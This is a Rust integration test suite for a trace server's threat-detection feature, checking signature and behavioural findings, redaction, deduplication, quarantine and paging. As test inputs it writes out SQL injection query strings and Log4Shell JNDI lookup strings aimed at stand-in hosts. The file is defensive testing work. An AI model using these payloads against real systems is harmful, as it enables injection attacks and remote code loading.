//! Threat detection end to end (issue 7): signature rules run on the decoded batch before
//! redaction in the real server; findings are OCSF Detection Findings with redacted evidence,
//! committed with their batch (so they show in the trace), deduplicated on client retries,
//! written to the JSON Lines sink by severity, counted in /metrics and queryable at
//! `GET /api/findings`; and the labeled evaluation sets sent through the real ingest path give the
//! same per-class results as `tracevault eval detect`.

mod common;

use std::collections::{BTreeMap, HashSet};
use std::path::PathBuf;

use common::*;
use prost::Message;
use tv_model::otlp::*;

fn span(tid: [u8; 16], name: &str, attrs: Vec<KeyValue>) -> Span {
    let now = now_nanos();
    Span {
        trace_id: tid.to_vec(),
        span_id: random_id::<8>().to_vec(),
        name: name.into(),
        kind: 2,
        start_time_unix_nano: now - 2_000_000,
        end_time_unix_nano: now,
        attributes: attrs,
        ..Default::default()
    }
}

fn batch(service: &str, spans: Vec<Span>) -> ExportTraceServiceRequest {
    tv_detect::evalset::request(service, spans)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn attacks_become_ocsf_findings_with_redacted_evidence() {
    let tmp = tempfile::tempdir().unwrap();
    let sink = tmp.path().join("sink/findings.jsonl");
    let config = format!(
        "version = 1\n[detection]\njsonl_file = \"{}\"\njsonl_min_severity = \"critical\"\n",
        sink.display()
    );
    let (srv, _) = start_with_config(tmp, &config, &[]);
    let tid = random_id::<16>();
    let req = batch(
        "shop",
        vec![
            span(
                tid,
                "GET /search for alice.marker@example.com",
                vec![
                    kv("http.request.method", sv("GET")),
                    kv("url.path", sv("/search")),
                    kv(
                        "url.query",
                        sv("q=1%27%20UNION%20SELECT%20secretcolumn%20FROM%20users--"),
                    ),
                ],
            ),
            span(
                tid,
                "GET /",
                vec![kv(
                    "user_agent.original",
                    sv("${jndi:ldap://evil-marker.example/a}"),
                )],
            ),
            span(
                tid,
                "GET /shoes",
                vec![
                    kv("url.path", sv("/shoes")),
                    kv("url.query", sv("q=red+running+shoes&size=42")),
                ],
            ),
        ],
    );
    let r = srv
        .post_otlp("application/x-protobuf", req.encode_to_vec())
        .await;
    assert_eq!(r.status(), 200);
    // A client retry of the same batch: no second set of findings.
    let r = srv
        .post_otlp("application/x-protobuf", req.encode_to_vec())
        .await;
    assert_eq!(r.status(), 200);

    let resp = srv.get("/api/findings").await;
    assert_eq!(resp.status(), 200);
    let text = resp.text().await.unwrap();
    // Evidence never carries the raw values.
    // The span name's email is redacted in the finding as in the stored span.
    for raw in [
        "secretcolumn",
        "evil-marker",
        "jndi:ldap",
        "alice.marker@example.com",
    ] {
        assert!(!text.contains(raw), "raw value {raw} in findings: {text}");
    }
    let v: serde_json::Value = serde_json::from_str(&text).unwrap();
    let findings = v["findings"].as_array().unwrap();
    let rules: HashSet<&str> = findings
        .iter()
        .map(|f| f["finding_info"]["analytic"]["uid"].as_str().unwrap())
        .collect();
    assert!(rules.contains("tv-log4shell-lookup"), "{rules:?}");
    assert!(rules.iter().any(|r| r.starts_with("tv-sqli")), "{rules:?}");
    let uids: HashSet<&str> = findings
        .iter()
        .map(|f| f["finding_info"]["uid"].as_str().unwrap())
        .collect();
    assert_eq!(uids.len(), findings.len(), "retry duplicated findings");
    for f in findings {
        assert_eq!(f["class_uid"], 2004);
        assert_eq!(f["type_uid"], 200401);
        assert_eq!(
            f["finding_info"]["related_events"][0]["trace_uid"],
            hex::encode(tid)
        );
        assert_eq!(f["resources"][0]["name"], "shop");
        assert!(
            f["actor"]["user"]["uid"]
                .as_str()
                .unwrap()
                .starts_with("token:"),
            "{f}"
        );
        assert_ne!(
            f["resources"][0]["data"]["operation"], "GET /shoes",
            "benign span flagged"
        );
    }
    let log4shell = findings
        .iter()
        .find(|f| f["finding_info"]["analytic"]["uid"] == "tv-log4shell-lookup")
        .unwrap();
    assert_eq!(log4shell["severity"], "Critical");
    let ev = &log4shell["evidences"][0]["data"];
    assert_eq!(ev["field"], "tv.input");
    assert!(ev["value_length"].as_u64().unwrap() > 10, "{ev}");
    // Grouped: one group per rule and operation, each counted.
    assert!(!v["groups"].as_array().unwrap().is_empty());

    // Filters, and a bad filter gets a clear error.
    let high = srv.get_json("/api/findings?min_severity=critical").await;
    assert!(
        high["findings"]
            .as_array()
            .unwrap()
            .iter()
            .all(|f| f["severity"] == "Critical")
    );
    let r = srv.get("/api/findings?min_severity=severe").await;
    assert_eq!(r.status(), 400);
    assert!(r.text().await.unwrap().contains("min_severity"));

    // Linked from the trace: the finding is stored in it, under tracevault.findings.
    let trace = srv
        .get_json(&format!("/api/traces/{}", hex::encode(tid)))
        .await;
    assert!(
        trace.to_string().contains("tracevault.findings"),
        "finding not in the trace"
    );

    // The sink got the critical finding only, as OCSF JSON lines.
    let lines: Vec<serde_json::Value> = std::fs::read_to_string(&sink)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert!(!lines.is_empty());
    assert!(
        lines
            .iter()
            .all(|l| l["class_uid"] == 2004 && l["severity"] == "Critical")
    );
    assert!(
        !std::fs::read_to_string(&sink)
            .unwrap()
            .contains("evil-marker")
    );

    let metrics = srv.get("/metrics").await.text().await.unwrap();
    assert!(
        metrics.contains("tracevault_findings_total{stage=\"signature\",severity=\"critical\"}"),
        "{metrics}"
    );
}

fn evaldata() -> Option<PathBuf> {
    tv_detect::evalset::dev_data(env!("CARGO_MANIFEST_DIR"))
}

/// The CRS positives of the four required categories and the benign sets (libinjection URLs,
/// prose, ordinary query strings), sent as OTLP through the server: every case's trace is then
/// read back, and a case counts as flagged when its trace holds a finding. The per-class counts
/// must equal the library evaluation's.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn evaluation_sets_through_the_real_ingest_path() {
    let Some(root) = evaldata() else { return };
    let mut cases = tv_detect::evalset::crs(
        &root.join("crs-regression/tests"),
        &["930", "931", "932", "941", "942"],
    )
    .unwrap();
    cases.extend(tv_detect::evalset::libinjection_benign(&root.join("libinjection")).unwrap());
    cases.extend(tv_detect::evalset::presidio_benign(&root.join("presidio-research")).unwrap());
    cases.extend(tv_detect::evalset::common_params_benign());
    cases.extend(tv_detect::evalset::ordinary_requests_benign());
    let expected = tv_detect::evalset::run(
        &tv_detect::Signatures::new(tv_detect::rules::RuleSet::builtin()),
        &cases,
    );
    // Fresh ids and current times (the server refuses spans from 1970).
    let now = now_nanos();
    let mut traces = Vec::new();
    for c in &mut cases {
        let tid = random_id::<16>();
        for rs in &mut c.req.resource_spans {
            for ss in &mut rs.scope_spans {
                for s in &mut ss.spans {
                    s.trace_id = tid.to_vec();
                    s.start_time_unix_nano = now - 1_000_000;
                    s.end_time_unix_nano = now;
                }
            }
        }
        traces.push(tid);
    }
    let srv = Server::start(&[]);
    for chunk in cases.chunks(200) {
        let req = ExportTraceServiceRequest {
            resource_spans: chunk
                .iter()
                .flat_map(|c| c.req.resource_spans.clone())
                .collect(),
        };
        let r = srv
            .post_otlp("application/x-protobuf", req.encode_to_vec())
            .await;
        assert_eq!(r.status(), 200, "{}", r.text().await.unwrap());
    }
    let c = srv.http_client();
    let mut got: BTreeMap<(String, String), (usize, usize)> = BTreeMap::new();
    for (case, tid) in cases.iter().zip(&traces) {
        let r = c
            .get(format!("{}/api/traces/{}", srv.api, hex::encode(tid)))
            .bearer_auth(srv.token())
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 200);
        let text = r.text().await.unwrap();
        let e = got
            .entry((case.set.to_owned(), case.class.clone()))
            .or_default();
        e.0 += 1;
        if text.contains("tracevault.findings") {
            e.1 += 1;
        }
    }
    println!("set            class        cases  flagged (real ingest path)");
    for ((set, class), (n, flagged)) in &got {
        println!(
            "{set:<14} {class:<10} {n:>7} {flagged:>8}  {:>6.2}%",
            100.0 * *flagged as f64 / *n as f64
        );
    }
    let want: BTreeMap<(String, String), (usize, usize)> = expected
        .by_class()
        .into_iter()
        .map(|(k, c)| (k, (c.total, c.flagged)))
        .collect();
    assert_eq!(got, want, "the ingest path and the evaluation disagree");
}

fn http_span(tid: [u8; 16], sid: [u8; 8], name: &str, start: u64, attrs: Vec<KeyValue>) -> Span {
    Span {
        trace_id: tid.to_vec(),
        span_id: sid.to_vec(),
        name: name.into(),
        kind: 2,
        start_time_unix_nano: start,
        end_time_unix_nano: start + 1_000_000,
        attributes: attrs,
        ..Default::default()
    }
}

async fn findings_of(srv: &Server, rule: &str, want: usize) -> Vec<serde_json::Value> {
    for _ in 0..100 {
        let v = srv.get_json(&format!("/api/findings?rule={rule}")).await;
        let f = v["findings"].as_array().cloned().unwrap_or_default();
        if f.len() >= want {
            return f;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    panic!("no {rule} finding within 10 s");
}

/// The behavioural stage works on the committed, redacted stream after the acknowledgement:
/// a 401 burst and a span id reused with different content become findings (with the redacted
/// client address, never the raw one), identical retries do not, and the learned state is saved
/// encrypted and survives a restart (a new service after restart is unknown, not learned anew).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn behavioural_findings_after_commit_and_learned_state_survives_restart() {
    let tmp = tempfile::tempdir().unwrap();
    let config = "version = 1\n[detection.behaviour]\nlearning_secs = 2\nauth_threshold = 5\n";
    let (mut srv, _) = start_with_config(tmp, config, &[]);
    let now = now_nanos();
    let tid = random_id::<16>();
    let first = http_span(
        tid,
        random_id::<8>(),
        "GET /",
        now - 5_000_000_000,
        vec![kv("http.response.status_code", iv(200))],
    );
    let reused = first.clone();
    let r = srv
        .post_otlp(
            "application/x-protobuf",
            batch("web", vec![first]).encode_to_vec(),
        )
        .await;
    assert_eq!(r.status(), 200);
    // An identical retry: a duplicate, not a finding.
    let r = srv
        .post_otlp(
            "application/x-protobuf",
            batch("web", vec![reused.clone()]).encode_to_vec(),
        )
        .await;
    assert_eq!(r.status(), 200);
    // The same ids with different content.
    let changed = Span {
        name: "GET /admin".into(),
        ..reused
    };
    let burst: Vec<Span> = (0..6)
        .map(|i| {
            http_span(
                random_id::<16>(),
                random_id::<8>(),
                "POST /login",
                now + i * 1_000_000,
                vec![
                    kv("http.response.status_code", iv(401)),
                    kv("client.address", sv("203.0.113.9")),
                ],
            )
        })
        .collect();
    let mut spans = burst;
    spans.push(changed);
    let r = srv
        .post_otlp(
            "application/x-protobuf",
            batch("web", spans).encode_to_vec(),
        )
        .await;
    assert_eq!(r.status(), 200);

    let burst = findings_of(&srv, "tv-behaviour-auth-burst", 1).await;
    let text = serde_json::to_string(&burst).unwrap();
    assert!(
        !text.contains("203.0.113.9"),
        "raw client address in a finding: {text}"
    );
    assert!(text.contains("hmac:"), "{text}");
    let reuse = findings_of(&srv, "tv-integrity-span-reuse", 1).await;
    assert_eq!(reuse.len(), 1, "an identical retry was flagged too");
    assert!(
        reuse[0]["actor"]["user"]["uid"]
            .as_str()
            .unwrap()
            .starts_with("token:")
    );
    let metrics = srv.get("/metrics").await.text().await.unwrap();
    assert!(
        metrics.contains("tracevault_detection_dropped_spans_total 0"),
        "{metrics}"
    );

    // Saved encrypted at shutdown, loaded at start.
    srv.restart();
    let files = tv_server::detection::state_files(&srv.dir);
    assert!(files.contains_key("default.state"), "{files:?}");
    for needle in [b"POST /login".as_slice(), b"intruder", b"\"web\""] {
        let (n, hits) = files_containing(&srv.dir.join("detect"), needle);
        assert!(n >= 1);
        assert!(hits.is_empty(), "behavioural state in plaintext: {hits:?}");
    }
    let r = srv
        .post_otlp(
            "application/x-protobuf",
            batch(
                "intruder",
                vec![http_span(
                    random_id::<16>(),
                    random_id::<8>(),
                    "GET /x",
                    now_nanos(),
                    vec![],
                )],
            )
            .encode_to_vec(),
        )
        .await;
    assert_eq!(r.status(), 200);
    let unknown = findings_of(&srv, "tv-integrity-unknown-service", 1).await;
    assert_eq!(unknown[0]["resources"][0]["name"], "intruder");
}

/// Automated responses: a credential that re-sends a span id with different content is
/// quarantined (403 naming the response and how to release it), the admin lists and releases it
/// with `tracevault response`, everything is audited; a tag rule marks the finding (and so the
/// trace); and a rule that would quarantine on what spans report is refused at start.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn quarantine_follows_the_senders_behaviour_and_is_released_by_an_admin() {
    let refused_dir = tempfile::tempdir().unwrap();
    let bad = refused_dir.path().join("bad.toml");
    std::fs::write(
        &bad,
        "version = 1\n[[detection.responses]]\naction = \"quarantine\"\nrules = [\"tv-sqli-syntax\"]\n",
    )
    .unwrap();
    let err = serve_refused(&bad, &refused_dir.path().join("data"));
    assert!(err.contains("switch off a victim's telemetry"), "{err}");
    // A typo in detection.disabled_rules is refused, naming the id.
    std::fs::write(
        &bad,
        "version = 1\n[detection]\ndisabled_rules = [\"tv-sqli-probes\"]\n",
    )
    .unwrap();
    let err = serve_refused(&bad, &refused_dir.path().join("data2"));
    assert!(
        err.contains("disabled_rules names tv-sqli-probes, which no Sigma rule file has"),
        "{err}"
    );

    let tmp = tempfile::tempdir().unwrap();
    let config = r#"version = 1
[detection.behaviour]
learning_secs = 2

[[detection.responses]]
action = "quarantine"
rules = ["tv-integrity-span-reuse"]

[[detection.responses]]
action = "tag"
rules = ["tv-log4shell-*"]
tag = "suspicious"
"#;
    let (srv, _) = start_with_config(tmp, config, &[]);
    let ingest = create_token(&srv, &["--role", "ingest", "--name", "exporter"]);
    let c = srv.http_client();
    let post = |token: String, req: ExportTraceServiceRequest| {
        let c = c.clone();
        let url = format!("{}/v1/traces", srv.http);
        async move {
            let r = c
                .post(url)
                .bearer_auth(token)
                .header("content-type", "application/x-protobuf")
                .body(req.encode_to_vec())
                .send()
                .await
                .unwrap();
            (r.status().as_u16(), r.text().await.unwrap())
        }
    };
    let s = http_span(
        random_id::<16>(),
        random_id::<8>(),
        "GET /",
        now_nanos() - 1_000_000,
        vec![],
    );
    assert_eq!(
        post(ingest.clone(), batch("web", vec![s.clone()])).await.0,
        200
    );
    let changed = Span {
        name: "GET /other".into(),
        ..s
    };
    assert_eq!(
        post(ingest.clone(), batch("web", vec![changed])).await.0,
        200
    );
    // The behavioural stage runs after the acknowledgement: wait for the quarantine.
    let mut refused = None;
    for _ in 0..100 {
        let probe = http_span(
            random_id::<16>(),
            random_id::<8>(),
            "GET /",
            now_nanos(),
            vec![],
        );
        let (st, body) = post(ingest.clone(), batch("web", vec![probe])).await;
        if st == 403 {
            refused = Some(body);
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    let body = refused.expect("the credential was not quarantined");
    assert!(body.contains("quarantined by automated response"), "{body}");
    assert!(body.contains("tracevault response release"), "{body}");
    // Another credential (the admin's) is not affected; its Log4Shell span is tagged.
    let tagged = http_span(
        random_id::<16>(),
        random_id::<8>(),
        "GET /",
        now_nanos(),
        vec![kv("user_agent.original", sv("${jndi:ldap://x.example/a}"))],
    );
    let r = srv
        .post_otlp(
            "application/x-protobuf",
            batch("web", vec![tagged]).encode_to_vec(),
        )
        .await;
    assert_eq!(r.status(), 200);
    let f = findings_of(&srv, "tv-log4shell-lookup", 1).await;
    assert_eq!(f[0]["metadata"]["labels"][0], "suspicious");

    let (ok, out) = srv.cli(&["response", "list"]);
    assert!(ok, "{out}");
    assert!(
        out.contains("quarantine") && out.contains("tv-integrity-span-reuse"),
        "{out}"
    );
    let id = out.split_whitespace().next().unwrap().to_owned();
    let (ok, out) = srv.cli(&["response", "release", &id]);
    assert!(ok, "{out}");
    let probe = http_span(
        random_id::<16>(),
        random_id::<8>(),
        "GET /",
        now_nanos(),
        vec![],
    );
    assert_eq!(
        post(ingest.clone(), batch("web", vec![probe])).await.0,
        200,
        "still quarantined after release"
    );
    let (ok, out) = srv.cli(&["response", "release", &id]);
    assert!(!ok && out.contains("already released"), "{out}");

    let (st, audit) = call(
        &srv,
        "GET",
        "/api/audit?all_tenants=true",
        &srv.token(),
        "default",
    )
    .await;
    assert_eq!(st, 200);
    assert!(audit.contains("response_quarantine"), "{audit}");
    assert!(
        audit.contains(&format!("response:{id}")),
        "release not audited: {audit}"
    );
}

/// Sends spans in one-second batches of event time (as live exporters would), to `tenant`.
async fn stream_nezha(
    srv: &Server,
    c: &reqwest::Client,
    tenant: &str,
    spans: &[tv_detect::evalset::NezhaSpan],
    extra: Vec<ResourceSpans>,
    shift: i64,
) {
    let mut sorted = spans.to_vec();
    sorted.sort_by_key(|s| s.end);
    let mut extra = Some(extra);
    let mut i = 0;
    while i < sorted.len() {
        let sec = sorted[i].end / 1_000_000_000;
        let j = sorted[i..]
            .iter()
            .position(|s| s.end / 1_000_000_000 != sec)
            .map_or(sorted.len(), |p| i + p);
        let mut req = tv_detect::evalset::nezha_request(&sorted[i..j], shift);
        // The injections go in with the traffic of the middle of the file.
        if i >= sorted.len() / 2
            && let Some(x) = extra.take()
        {
            req.resource_spans.extend(x);
        }
        let r = c
            .post(format!("{}/v1/traces", srv.http))
            .bearer_auth(srv.token())
            .header("x-scope-orgid", tenant)
            .header("content-type", "application/x-protobuf")
            .body(req.encode_to_vec())
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 200, "{}", r.text().await.unwrap());
        i = j;
    }
}

/// The shift that makes the data end about a second ago, in whole 10 s steps: windows then cover
/// the same spans as in the data's own time (the detectors' windows are aligned to 10 s), so the
/// outcome does not depend on the second the test runs. (It would otherwise: a window boundary
/// moved by a few seconds changes marginal medians; see the issue 7 notes.)
fn shift_to_now(now: i64, spans: &[tv_detect::evalset::NezhaSpan]) -> i64 {
    let raw = now - 1_000_000_000 - spans.iter().map(|s| s.end).max().unwrap() as i64;
    raw.div_euclid(10_000_000_000) * 10_000_000_000
}

/// The tenant's behavioural findings once they stop changing.
async fn settled_findings(
    srv: &Server,
    c: &reqwest::Client,
    tenant: &str,
) -> Vec<serde_json::Value> {
    let mut last = usize::MAX;
    let mut out = Vec::new();
    for _ in 0..40 {
        tokio::time::sleep(std::time::Duration::from_millis(250)).await;
        let v: serde_json::Value = c
            .get(format!("{}/api/findings?limit=1000", srv.api))
            .bearer_auth(srv.token())
            .header("x-scope-orgid", tenant)
            .send()
            .await
            .unwrap()
            .json()
            .await
            .unwrap();
        out = v["findings"].as_array().cloned().unwrap_or_default();
        if out.len() == last {
            break;
        }
        last = out.len();
    }
    out
}

fn rule_of(f: &serde_json::Value) -> &str {
    f["finding_info"]["analytic"]["uid"].as_str().unwrap_or("")
}

/// Nezha traces through the real ingest path, timestamps shifted to the present, one tenant per
/// experiment: injected network-delay and CPU faults are flagged within 90 s (event time), the
/// fault-free minute raises no latency or error finding, and synthetic injections (a new edge,
/// a 401 burst, a fan-out spike) on the fault-free traffic are flagged while the same traffic
/// without them raises none.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn nezha_faults_and_injections_through_the_real_ingest_path() {
    let Some(root) = evaldata() else { return };
    let root = root.join("nezha-traces");
    let tmp = tempfile::tempdir().unwrap();
    let config = "version = 1\n[detection.behaviour]\nlearning_secs = 30\n";
    let (srv, _) = start_with_config(tmp, config, &[]);
    let c = srv.http_client();
    let now = now_nanos() as i64;
    let mut rows = Vec::new();
    let (mut wanted, mut flagged) = (0, 0);
    let mut days: Vec<PathBuf> = std::fs::read_dir(root.join("rca_data"))
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .collect();
    days.sort();
    let mut n = 0;
    for day in days {
        let list = std::fs::read_dir(&day)
            .unwrap()
            .flatten()
            .map(|e| e.path())
            .find(|p| p.to_string_lossy().ends_with("fault_list.json"))
            .unwrap();
        let traces: Vec<PathBuf> = std::fs::read_dir(day.join("trace"))
            .unwrap()
            .flatten()
            .map(|e| e.path())
            .collect();
        for f in tv_detect::evalset::nezha_faults(&list).unwrap() {
            if !(f.kind == "network_delay" || f.kind.starts_with("cpu")) {
                continue;
            }
            let spans = tv_detect::evalset::nezha_around(&traces, f.time_unix_nano);
            if spans.is_empty() {
                continue;
            }
            let shift = shift_to_now(now, &spans);
            n += 1;
            let tenant = format!("nezha{n}");
            stream_nezha(&srv, &c, &tenant, &spans, vec![], shift).await;
            let inject = (f.time_unix_nano as i64 + shift) as u64;
            let found = settled_findings(&srv, &c, &tenant).await;
            let in_time = found
                .iter()
                .filter(|x| matches!(rule_of(x), "tv-behaviour-latency" | "tv-behaviour-errors"))
                .filter(|x| {
                    // +-90 s: the data's injection labels are off by up to a minute (README).
                    let t = x["time"].as_u64().unwrap_or(0) * 1_000_000;
                    t.abs_diff(inject) <= 90_000_000_000
                })
                .count();
            wanted += 1;
            if in_time > 0 {
                flagged += 1;
            }
            rows.push(format!(
                "{:<15} {:<24} spans {:>6}  latency/error findings within 90 s: {in_time}",
                f.kind,
                tv_detect::evalset::pod_service(&f.pod),
                spans.len()
            ));
        }
    }
    // The fault-free minute, clean and with injections.
    let clean_file = std::fs::read_dir(root.join("construct_data"))
        .unwrap()
        .flatten()
        .filter(|d| d.path().is_dir())
        .flat_map(|d| std::fs::read_dir(d.path().join("trace")).unwrap().flatten())
        .map(|e| e.path())
        .next()
        .unwrap();
    let spans = tv_detect::evalset::nezha_csv(&clean_file).unwrap();
    let shift = shift_to_now(now, &spans);
    let mid = (spans[spans.len() / 2].end as i64 + shift) as u64;
    let sp = |tid: [u8; 16],
              sid: [u8; 8],
              parent: Option<[u8; 8]>,
              name: &str,
              at: u64,
              attrs: Vec<KeyValue>| Span {
        trace_id: tid.to_vec(),
        span_id: sid.to_vec(),
        parent_span_id: parent.map(|p| p.to_vec()).unwrap_or_default(),
        name: name.into(),
        kind: 2,
        start_time_unix_nano: at,
        end_time_unix_nano: at + 2_000_000,
        attributes: attrs,
        ..Default::default()
    };
    let rs = tv_detect::evalset::resource_spans;
    let mut extra = Vec::new();
    // A new edge: adservice calls cartservice.
    let (t1, caller) = (random_id::<16>(), random_id::<8>());
    extra.push(rs(
        "adservice",
        vec![sp(
            t1,
            caller,
            None,
            "hipstershop.AdService/GetAds",
            mid,
            vec![],
        )],
    ));
    extra.push(rs(
        "cartservice",
        vec![sp(
            t1,
            random_id::<8>(),
            Some(caller),
            "hipstershop.CartService/GetCart",
            mid + 1_000_000,
            vec![],
        )],
    ));
    // A burst of 401s to one client.
    extra.push(rs(
        "frontend",
        (0..30u64)
            .map(|i| {
                sp(
                    random_id::<16>(),
                    random_id::<8>(),
                    None,
                    "POST /login",
                    mid + i * 10_000_000,
                    vec![
                        kv("http.response.status_code", iv(401)),
                        kv("client.address", sv("198.51.100.23")),
                    ],
                )
            })
            .collect(),
    ));
    // A fan-out spike: one checkout span with 300 child calls.
    let (t3, parent) = (random_id::<16>(), random_id::<8>());
    let mut fan = vec![sp(
        t3,
        parent,
        None,
        "hipstershop.CheckoutService/PlaceOrder",
        mid,
        vec![],
    )];
    fan.extend((0..300u64).map(|i| {
        sp(
            t3,
            random_id::<8>(),
            Some(parent),
            "PlaceOrder.call",
            mid + 1_000_000 + i * 1_000,
            vec![],
        )
    }));
    extra.push(rs("checkoutservice", fan));
    stream_nezha(&srv, &c, "clean", &spans, vec![], shift).await;
    stream_nezha(&srv, &c, "injected", &spans, extra, shift).await;
    let clean = settled_findings(&srv, &c, "clean").await;
    let injected = settled_findings(&srv, &c, "injected").await;
    let ids = [
        "tv-behaviour-new-edge",
        "tv-behaviour-auth-burst",
        "tv-behaviour-fanout",
    ];
    println!("fault           target                   (real ingest path)");
    for r in &rows {
        println!("{r}");
    }
    println!("network_delay + cpu faults flagged within 90 s: {flagged}/{wanted}");
    println!("detector                     clean  injected");
    for id in ids {
        println!(
            "{id:<28} {:>5} {:>9}",
            clean.iter().filter(|f| rule_of(f) == id).count(),
            injected.iter().filter(|f| rule_of(f) == id).count()
        );
    }
    let perf_clean = clean
        .iter()
        .filter(|f| matches!(rule_of(f), "tv-behaviour-latency" | "tv-behaviour-errors"))
        .count();
    println!(
        "fault-free minute: {} spans, {perf_clean} latency/error findings",
        spans.len()
    );
    assert!(wanted > 0);
    assert!(
        2 * flagged >= wanted,
        "only {flagged}/{wanted} faults flagged within 90 s"
    );
    assert_eq!(
        perf_clean, 0,
        "the fault-free minute raised latency/error findings"
    );
    for id in ids {
        assert!(
            injected.iter().any(|f| rule_of(f) == id),
            "{id} missed its injection"
        );
        assert!(
            !clean.iter().any(|f| rule_of(f) == id),
            "{id} fired without an injection"
        );
    }
    let text = serde_json::to_string(&injected).unwrap();
    assert!(
        !text.contains("198.51.100.23"),
        "raw client address in a finding"
    );
}

/// `/api/findings` pages with a cursor: following `next` reads every finding once, newest first,
/// past any page size; a cursor that was not given out is refused.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn findings_page_with_a_cursor() {
    let (mut srv, _) = start_with_config(tempfile::tempdir().unwrap(), "version = 1\n", &[]);
    for i in 0..7 {
        let req = batch(
            "shop",
            vec![span(
                random_id::<16>(),
                "GET /search",
                vec![
                    kv("url.path", sv("/search")),
                    kv(
                        "url.query",
                        sv(&format!("q={i}%27%20UNION%20SELECT%20a%20FROM%20b--")),
                    ),
                ],
            )],
        );
        let r = srv
            .post_otlp("application/x-protobuf", req.encode_to_vec())
            .await;
        assert_eq!(r.status(), 200);
    }
    let all = srv.get_json("/api/findings?limit=1000").await;
    let everything: Vec<String> = all["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["finding_info"]["uid"].as_str().unwrap().to_owned())
        .collect();
    assert!(everything.len() >= 7, "{all}");
    assert!(all["next"].is_null(), "one page holds them all: {all}");
    let mut paged: Vec<String> = Vec::new();
    let mut url = "/api/findings?limit=3".to_string();
    for _ in 0..20 {
        let page = srv.get_json(&url).await;
        let items = page["findings"].as_array().unwrap();
        assert!(items.len() <= 3, "{page}");
        paged.extend(
            items
                .iter()
                .map(|f| f["finding_info"]["uid"].as_str().unwrap().to_owned()),
        );
        match page["next"].as_str() {
            Some(c) => url = format!("/api/findings?limit=3&cursor={c}"),
            None => break,
        }
    }
    assert_eq!(paged, everything, "pages in order, each finding once");
    // The index is rebuilt from the store after a restart: the same findings, the same pages,
    // whatever window the first query after the restart asks for.
    srv.restart();
    let future = now_nanos() / 1_000_000_000 + 3600;
    let none = srv.get_json(&format!("/api/findings?start={future}")).await;
    assert_eq!(none["findings"], serde_json::json!([]), "{none}");
    let again = srv.get_json("/api/findings?limit=1000").await;
    assert_eq!(again["findings"], all["findings"], "{again}");
    let first = srv.get_json("/api/findings?limit=3").await;
    let uids: Vec<&str> = first["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["finding_info"]["uid"].as_str().unwrap())
        .collect();
    assert_eq!(
        uids,
        everything[..3]
            .iter()
            .map(String::as_str)
            .collect::<Vec<_>>()
    );
    let r = srv.get("/api/findings?cursor=not-a-cursor").await;
    assert_eq!(r.status(), 400);
    assert!(r.text().await.unwrap().contains("cursor"));
}
